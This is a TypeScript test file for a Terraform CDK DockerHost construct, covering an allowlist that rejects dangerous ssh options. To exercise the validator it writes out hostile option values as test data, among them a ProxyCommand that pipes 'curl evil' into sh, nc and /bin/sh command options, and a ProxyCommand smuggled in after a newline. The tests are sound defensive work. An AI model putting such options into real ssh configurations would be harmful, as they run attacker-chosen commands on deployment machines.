import { TerraformStack, TerraformVariable, Testing } from 'cdktf';
import { DockerHost, HostEndpoint } from '../constructs';
import { sshOptionProblems } from '../constructs/private/ssh-options';
import { synth, synthErrors } from './util';

const refused = (args: unknown[]) => sshOptionProblems(args).map((p) => p.option);

describe('the ssh option allowlist', () => {
  test('accepts the options that choose how to connect, separate or attached', () => {
    const ok = [
      ['-p', '2222', '-i', '/home/ci/.ssh/id_ed25519', '-l', 'deploy', '-4', '-C', '-q'],
      ['-p2222', '-i~/.ssh/key', '-ldeploy', '-6', '-4C'],
      ['-o', 'StrictHostKeyChecking=yes', '-o', 'UserKnownHostsFile=/tmp/dnc known_hosts', '-o', 'IdentitiesOnly=yes'],
      ['-oPort=22', '-o', 'user deploy', '-o', 'ConnectTimeout = 10', '-o', 'serveraliveinterval=15', '-o', 'ServerAliveCountMax=3'],
      ['-o', 'BatchMode=yes', '-o', 'Compression=no', '-o', 'HostKeyAlias=edge.example', '-o', 'StrictHostKeyChecking=accept-new'],
      ['-o StrictHostKeyChecking=yes', '-p 2222'],
    ];
    for (const args of ok) expect(sshOptionProblems(args)).toEqual([]);
  });

  test('refuses every option that runs a program or reads other configuration', () => {
    expect(refused(['-o', 'ProxyCommand=nc %h %p'])).toEqual(['-o ProxyCommand=nc %h %p']);
    expect(refused(['-oLocalCommand=touch /tmp/x', '-oPermitLocalCommand=yes'])).toEqual(['-oLocalCommand=touch /tmp/x', '-oPermitLocalCommand=yes']);
    expect(refused(['-o', 'KnownHostsCommand=/bin/sh -c id', '-o', 'Match exec "id"', '-o', 'Include /tmp/evil'])).toHaveLength(3);
    expect(refused(['-F', '/tmp/evil_config', '-J', 'jump', '-W', 'h:22', '-L', '1:h:2', '-E', '/tmp/log', '-v'])).toEqual(['-F /tmp/evil_config', '-J jump', '-W h:22', '-L 1:h:2', '-E /tmp/log', '-v']);
    expect(sshOptionProblems(['-o', 'ProxyCommand=x'])[0].reason).toMatch(/ProxyCommand, which is not an accepted keyword/);
  });

  test('refuses bad values, control characters, a missing value and arguments that are no option', () => {
    const problems = sshOptionProblems(['-p', '99999', '-l', '-oProxyCommand=x', '-i', '/k\nProxyCommand x', '-o', 'BatchMode=maybe', 'id', '-o', 'Port\t22', 42, '-i']);
    expect(problems.map((p) => p.option)).toEqual(['-p 99999', '-l -oProxyCommand=x', '-i /k\nProxyCommand x', '-o BatchMode=maybe', 'id', '-o Port\t22', '42', '-i']);
    expect(problems.map((p) => p.reason)).toEqual([
      '-p takes a port number between 1 and 65535',
      '-l takes a user name (letters, digits, _ . - @; not starting with -)',
      'holds a control character (a newline, tab or the like)',
      'sets BatchMode to "maybe", but BatchMode takes one of yes, no',
      'is no option: ssh would take it as the host or as a command to run there',
      'holds a control character (a newline, tab or the like)',
      'is not text',
      'needs a value after it',
    ]);
    expect(refused(['-oIdentityFile=/a\r'])).toEqual(['-oIdentityFile=/a\r']);
    expect(refused(['-o', 'NoEquals'])).toEqual(['-o NoEquals']);
  });
});

describe('DockerHost with HostEndpoint.ssh', () => {
  test('writes accepted options as ssh_opts', () => {
    const stack = new TerraformStack(Testing.app(), 'ok');
    new DockerHost(stack, 'h', { endpoint: HostEndpoint.ssh('ssh://root@10.0.0.5', ['-p', '2222', '-o', 'UserKnownHostsFile=/ci/known_hosts']) });
    expect(JSON.parse(synth(stack)).provider.docker[0]).toEqual({ host: 'ssh://root@10.0.0.5', ssh_opts: ['-p', '2222', '-o', 'UserKnownHostsFile=/ci/known_hosts'] });
  });

  test('refuses at synth, naming the construct path, the option and the fix, every problem at once', () => {
    const stack = new TerraformStack(Testing.app(), 'bad');
    new DockerHost(stack, 'h', { endpoint: HostEndpoint.ssh('ssh://root@10.0.0.5', ['-o', 'ProxyCommand=sh -c "curl evil | sh"', '-F', '/tmp/cfg', '-i', 'a\nb']) });
    const errors = synthErrors(stack);
    expect(errors).toHaveLength(3);
    expect(errors[0]).toMatch(/^\[bad\/h\] ssh option "-o ProxyCommand=sh -c \\"curl evil \| sh\\"" sets ProxyCommand, which is not an accepted keyword; an ssh:\/\/ endpoint's options may only choose how to connect \(-p PORT, -l USER, -i FILE/);
    expect(errors[0]).toMatch(/put the setting in ~\/.ssh\/config of the machine that deploys/);
    expect(errors[1]).toMatch(/^\[bad\/h\] ssh option "-F \/tmp\/cfg" is not an accepted option;/);
    expect(errors[2]).toMatch(/^\[bad\/h\] ssh option "-i a\\nb" holds a control character/);
  });

  test('refuses an option given as a Terraform expression: its value cannot be checked', () => {
    const stack = new TerraformStack(Testing.app(), 'expr');
    const v = new TerraformVariable(stack, 'opt', { type: 'string' });
    new DockerHost(stack, 'h', { endpoint: HostEndpoint.ssh('ssh://root@10.0.0.5', ['-o', v.stringValue]) });
    expect(synthErrors(stack)).toEqual([expect.stringMatching(/^\[expr\/h\] ssh option "\$\{var.opt\}" is a Terraform expression, whose value cannot be checked/)]);
  });
});
